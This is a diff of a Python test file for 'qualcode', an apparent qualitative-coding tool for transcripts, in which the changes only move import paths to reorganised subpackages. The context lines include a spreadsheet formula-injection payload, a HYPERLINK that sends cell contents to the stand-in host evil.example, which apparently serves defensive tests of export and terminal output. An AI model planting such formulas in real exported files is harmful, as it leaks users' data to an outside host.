@@ -21,11 +21,11 @@ from rich.console import Console
 from typer.testing import CliRunner
 
 from qualcode.cli import app
-from qualcode.coding import code
 from qualcode.errors import TranscriptError
-from qualcode.export import export
-from qualcode.readers import docx_text, srt_text, vtt_text
-from qualcode.transcripts import read_transcript
+from qualcode.exchange.export import export
+from qualcode.ingest.readers import docx_text, srt_text, vtt_text
+from qualcode.ingest.transcripts import read_transcript
+from qualcode.run.coding import code
 
 runner = CliRunner()
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
@@ -85,7 +85,7 @@ def test_no_terminal_control_reaches_the_screen_from_metadata_file_names_or_text
         assert "\x1b" not in result.output and "\u202e" not in result.output and "\x07" not in result.output, command
     from qualcode.cli.review import render_screen
     from qualcode.project import Project
-    from qualcode.review import ReviewSession
+    from qualcode.review.session import ReviewSession
 
     with Project.open(project) as opened:
         session = ReviewSession(opened, coder="ann")
